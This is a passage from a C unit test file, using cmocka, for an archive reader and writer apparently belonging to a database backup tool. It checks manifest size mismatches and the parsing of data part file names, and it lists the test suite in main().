	assert_non_null(strstr(fx->err.msg, "data/0001.public.t.copy.001"));
	assert_non_null(strstr(fx->err.msg, "missing from the archive"));

	m = mf_new();
	hand_head(&t, m);
	both(&t, m, "data/0001.public.t.copy.001", "12\n");
	hand_tail(&t, m);
	hand_manifest(&t, m);
	tb_save(&t, fx->path);
	assert_int_equal(read_all(fx, fx->path), PGW_EINVAL);
	assert_non_null(
	        strstr(fx->err.msg, "has 3 bytes, the manifest says 2"));
}

static void test_archive__data_part_names(void **state)
{
	const char *q;
	size_t len;
	unsigned no;
	unsigned long part;

	(void)state;
	assert_true(pgw_archive_data_part("data/0001.public.t.copy.000", &no,
	                                  &q, &len, &part));
	assert_int_equal(no, 1);
	assert_int_equal(len, 8);
	assert_memory_equal(q, "public.t", 8);
	assert_int_equal(part, 0);
	assert_true(pgw_archive_data_part(
	        "data/12345.my.schema.tab.le.copy.1234", &no, &q, &len, &part));
	assert_int_equal(no, 12345);
	assert_int_equal(len, 16);
	assert_memory_equal(q, "my.schema.tab.le", 16);
	assert_int_equal(part, 1234);
	assert_true(pgw_archive_data_part("data/0002.s.x.copy.y.copy.007", NULL,
	                                  &q, &len, NULL));
	assert_int_equal(len, 10);
	assert_memory_equal(q, "s.x.copy.y", 10);
	assert_false(
	        pgw_archive_data_part("restore.sql", NULL, NULL, NULL, NULL));
	assert_false(pgw_archive_data_part("data/0001.st.copy.000", NULL, NULL,
	                                   NULL, NULL));
	assert_false(pgw_archive_data_part("data/0001.s..t.copy.000", NULL,
	                                   NULL, NULL, NULL));
	assert_false(pgw_archive_data_part("data/01.s.t.copy.000", NULL, NULL,
	                                   NULL, NULL));
	assert_false(pgw_archive_data_part("data/0001.s.t.copy.000x", NULL,
	                                   NULL, NULL, NULL));
	assert_false(pgw_archive_data_part(NULL, NULL, NULL, NULL, NULL));
}

#define T(f) cmocka_unit_test_setup_teardown(f, setup, teardown)

int main(void)
{
	const struct CMUnitTest tests[] = {
		T(test_archive__round_trip_zstd),
		T(test_archive__round_trip_plain_tar),
		T(test_archive__manifest_without_optional_fields),
		T(test_archive__file_is_0600_and_no_partial_left),
		T(test_archive__large_entry_streams_through),
		T(test_archive__verify_hashes_every_entry_of_many),
		T(test_archive__plain_tar_lists_and_extracts),
		T(test_archive__writer_refuses_names_outside_the_layout),
		T(test_archive__writer_keeps_the_layout_order),
		T(test_archive__finish_needs_the_whole_layout),
		T(test_archive__finish_checks_the_tables),
		T(test_archive__abort_removes_the_partial_file),
		T(test_archive__create_refuses_existing_files),
		T(test_archive__disk_full_is_eio_and_leaves_nothing),
		T(test_archive__file_size_limit_is_eio),
		T(test_archive__hand_made_archive_verifies),
		T(test_archive__truncated),
		T(test_archive__cut_before_the_manifest),
		T(test_archive__one_byte_flipped_plain),
		T(test_archive__one_byte_flipped_in_a_header),
		T(test_archive__one_byte_flipped_compressed),
		T(test_archive__one_byte_flipped_anywhere_plain),
		T(test_archive__manifest_changed_without_its_checksum),
		T(test_archive__extra_entry),
		T(test_archive__missing_entry),
		T(test_archive__unknown_format_version),
		T(test_archive__dot_dot_and_absolute_names),
		T(test_archive__links_directories_and_devices),
		T(test_archive__names_that_are_not_text),
		T(test_archive__duplicate_entry),
		T(test_archive__entry_after_the_manifest),
		T(test_archive__entries_out_of_order),
		T(test_archive__manifest_lies),
		T(test_archive__manifest_tables_lie),
		T(test_archive__manifest_that_is_not_json),
		T(test_archive__huge_manifest),
		T(test_archive__not_an_archive),
		T(test_archive__no_manifest),
		T(test_archive__reader_fails_at_the_end_of_a_changed_entry),
		T(test_archive__reader_checks_entries_it_skips),
		T(test_archive__reader_against_another_archive),
		T(test_archive__data_part_names),
	};

	return cmocka_run_group_tests(tests, NULL, NULL);
}
